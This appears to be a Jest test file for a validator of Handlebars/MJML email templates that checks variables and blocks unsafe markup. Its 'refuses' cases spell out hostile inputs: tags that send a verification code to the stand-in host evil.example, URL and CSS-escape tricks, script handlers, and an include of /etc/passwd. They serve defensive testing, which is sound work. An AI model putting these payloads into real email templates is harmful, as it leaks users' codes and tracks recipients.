import { Addresses } from './addresses.js';
import { checkTemplate } from './check-template.js';
import { checkMarkup } from './markup.js';

const ADDRESSES = new Addresses('https://roost.example.org');
const DATA = {
  username: 'ada',
  code: '123456',
  url: 'https://roost.example.org/x',
  site: 'roost.example.org',
  isNew: true,
  person: { name: 'Ada' },
  items: [{ title: 'One' }],
  words: ['one'],
};

const faults = (body: string, subject = 'Hello'): string[] =>
  checkTemplate({ subject, body }, DATA, ADDRESSES).map(
    ({ part, line, reason }) => `${part} ${String(line)}: ${reason}`,
  );
const text = (content: string): string => `<mj-text>${content}</mj-text>`;

describe('checkTemplate', () => {
  it.each([
    text('Hello {{username}}, {{ person.name }}, {{~username~}}'),
    text('{{#if isNew}}new{{else}}old {{username}}{{/if}}{{#unless isNew}}old{{/unless}}'),
    text('{{#each items}}{{title}} {{@index}} {{../username}} {{@root.code}}{{/each}}{{#each words}}{{this}}{{/each}}'),
    text('{{#each items as |item|}}{{item.title}}{{/each}}{{#with person}}{{name}}{{/with}}{{lookup person "name"}}'),
    text('{{! a note }}1 &lt; 2, 3 > 2, <b title="{{username}}">x</b><br>y'),
    text(
      '<a href="{{url}}">x</a><a href="https://elsewhere.example.org/about">y</a><a href="mailto:a@b.example">z</a>',
    ),
    text('<a href="https://{{site}}/open?code={{code}}">x</a> <a href="https://roost.example.org/a#{{code}}">y</a>'),
    '<mj-image src="https://roost.example.org/media/logo" alt="{{username}}" href="{{url}}" />',
    '<mj-image src="data:image/png;base64,iVBORw0KGgo=" />',
    '<mj-raw>{{#if isNew}}</mj-raw>\n<mj-button href="{{url}}">Go</mj-button>\n<mj-raw>{{/if}}</mj-raw>',
    text('<span style="color: #333; background: url(https://roost.example.org/a.png)">x</span>'),
  ])('takes %s', (body) => {
    expect(faults(body)).toEqual([]);
  });

  it.each([
    ['an unknown variable', text('\n{{nobody}}'), 'body 2: "nobody" is not in the sample data'],
    ['one in a branch that is not taken', text('{{#unless isNew}}{{nobody}}{{/unless}}'), 'body 1: "nobody" is not in'],
    ['one that decides', text('{{#if nobody}}x{{/if}}'), 'body 1: "nobody" is not in'],
    ['one of an item', text('{{#each items}}\n{{nobody}}{{/each}}'), 'body 2: "nobody" is not in'],
    ['one of a person', text('{{person.age}}'), 'body 1: "person.age" is not in'],
    ['one outside of the data', text('{{../username}}'), 'body 1: "../username" leads out of the data'],
    ['a prototype', text('{{username.constructor.constructor}}'), 'is not in the sample data'],
    ['an unknown helper', text('{{shout username}}'), 'there is no helper shout'],
    ['an unknown block', text('{{#repeat 3}}x{{/repeat}}'), 'there is no block {{#repeat}}'],
    ['a partial', text('{{> secret}}'), 'partials and decorators are not supported'],
    ['what is no handlebars', `\n${text('{{#if}}')}`, 'body 2: handlebars'],
    ['a block that is not closed', text('{{#if isNew}}x'), 'handlebars'],
    ['data as markup', text('{{{username}}}'), 'would put data into the mail as markup'],
    ['data as markup, otherwise written', text('{{& username}}'), 'would put data into the mail as markup'],
    ['text that MJML leaves out', 'Hello\n<mj-text>x</mj-text>', 'body 1: text outside of <mj-text> is left out'],
    ['a block around parts', '<mj-text>x</mj-text>\n{{#if isNew}}<mj-spacer />{{/if}}', 'body 2: text outside of'],
    ['what is never closed', '<mj-text>x', 'body 1: <mj-text> is never closed'],
  ])('finds %s', (_what, body, fault) => {
    expect(faults(body)).toEqual(expect.arrayContaining([expect.stringContaining(fault)]));
  });

  it.each([
    ['none', '  ', 'it is empty'],
    ['markup', '<mj-text>Hello</mj-text>', 'this is markup'],
    ['an unknown variable', 'Hello {{nobody}}', '"nobody" is not in the sample data'],
    ['too much', 'x'.repeat(201), 'longer than 200 characters'],
  ])('finds a subject that is wrong: %s', (_what, subject, fault) => {
    expect(faults(text('x'), subject)).toEqual([expect.stringMatching(/^subject 1: /)]);
    expect(faults(text('x'), subject)[0]).toContain(fault);
  });

  const NOTHING_FOREIGN = 'mails load nothing from elsewhere';
  it.each([
    [
      'a picture elsewhere that tells a code',
      text('<img src="https://evil.example/?{{code}}">'),
      'an expression can stand in texts and links only',
    ],
    ['a picture elsewhere', '<mj-image src="https://evil.example/a.png" />', NOTHING_FOREIGN],
    ['one without a scheme', text('<img src="//evil.example/a.png">'), NOTHING_FOREIGN],
    ['one behind our name', text('<img src="https://roost.example.org.evil.example/a.png">'), NOTHING_FOREIGN],
    ['one behind a user', text('<img src="https://roost.example.org@evil.example/a.png">'), NOTHING_FOREIGN],
    ['an SVG in the mail', text('<img src="data:image/svg+xml;base64,PHN2Zz4=">'), NOTHING_FOREIGN],
    ['one of ours that tells a code', text('<img src="https://roost.example.org/a?{{code}}">'), 'texts and links only'],
    [
      'a set of pictures',
      text('<img srcset="https://roost.example.org/a 1x, https://evil.example/a 2x">'),
      'not supported',
    ],
    ['a background', text('<table background="https://evil.example/a.png"></table>'), NOTHING_FOREIGN],
    ['an attribute nobody thought of', text('<table data-bg="https://evil.example/a.png"></table>'), NOTHING_FOREIGN],
    ['a style', text('<b style="background: URL( \'https://evil.example/a\' )">x</b>'), NOTHING_FOREIGN],
    [
      'a style with escapes',
      text('<b style="background: u\\72l(https://evil.example/a)">x</b>'),
      'no escapes or comments',
    ],
    ['a style with data', text('<b style="color: {{username}}">x</b>'), 'texts and links only'],
    ['a link elsewhere with a code', text('<a href="https://evil.example/?c={{code}}">x</a>'), 'https://{{site}}/'],
    ['a host made of data', text('<a href="https://{{username}}/?c={{code}}">x</a>'), 'https://{{site}}/'],
    ['a host behind ours', text('<a href="https://{{site}}.evil.example/{{code}}">x</a>'), 'https://{{site}}/'],
    ['a host behind a user', text('<a href="https://{{site}}@evil.example/{{code}}">x</a>'), 'https://{{site}}/'],
    ['a mail with a code', text('<a href="mailto:a@evil.example?body={{code}}">x</a>'), 'https://{{site}}/'],
    [
      'a button elsewhere with a code',
      '<mj-button href="https://evil.example/{{code}}">x</mj-button>',
      'https://{{site}}/',
    ],
    ['a link that is a script', text('<a href=" javascript:alert(1)">x</a>'), 'a link starts with'],
    ['a script', text('<script>alert(1)</script>'), '<script> is not supported'],
    ['a handler', text('<b onclick="alert(1)">x</b>'), 'scripts are not supported'],
    ['a frame', text('<iframe src="https://evil.example"></iframe>'), '<iframe> is not supported'],
    ['a form', text('<form action="https://evil.example"><input name="code"></form>'), '<form> is not supported'],
    ['a style sheet', text('<link rel="stylesheet" href="https://evil.example/a.css">'), '<link> is not supported'],
    [
      'a comment that Outlook reads',
      '<mj-raw><!--[if mso]><img src="https://evil.example/"><![endif]--></mj-raw>',
      'comments are not supported',
    ],
    ['what hides markup', '<mj-raw><title></mj-raw>', '<title> is not supported'],
    ['an included file', '<mj-include path="/etc/passwd" />', '<mj-include> is not supported'],
    ['a style for all', '<mj-style>a { color: red }</mj-style>', '<mj-style> is not supported'],
    [
      'a block in an attribute',
      text('<b title="{{#if isNew}}" class="{{/if}}">x</b>'),
      'only plain expressions can stand in attributes',
    ],
    ['an attribute made of data', text('<b {{username}}="x">x</b>'), 'among the attributes'],
    ['a value without quotes', text('<b title={{username}}>x</b>'), 'in quotes'],
    ['a tag made of data', text('<{{username}} src="https://evil.example">x'), 'does not follow one'],
    ['a part of a tag made of data', text('<im{{username}} src="https://evil.example">x'), 'not supported'],
    [
      'a note that hides quotes',
      text('{{!-- <p title=" --}}<img src="https://evil.example/?">'),
      'braces or angle brackets',
    ],
    [
      'a string that hides quotes',
      text('{{lookup person "<p title="}}<img src="https://evil.example/?">'),
      'braces or angle',
    ],
    ['marks of our own', text('\uE000 0\uE001'), 'braces or angle brackets'],
  ])('refuses %s', (_what, body, fault) => {
    expect(faults(body)).toEqual(expect.arrayContaining([expect.stringContaining(fault)]));
  });

  it('looks into what MJML makes, with its comments for Outlook', () => {
    const html = '<!--[if mso | IE]><v:fill src="https://evil.example/a.png" /><![endif]--><p>x</p>';
    expect(checkMarkup(html, ADDRESSES, 'compiled').map(({ reason }) => reason)).toEqual([
      expect.stringContaining('mails load nothing from elsewhere'),
    ]);
  });
});
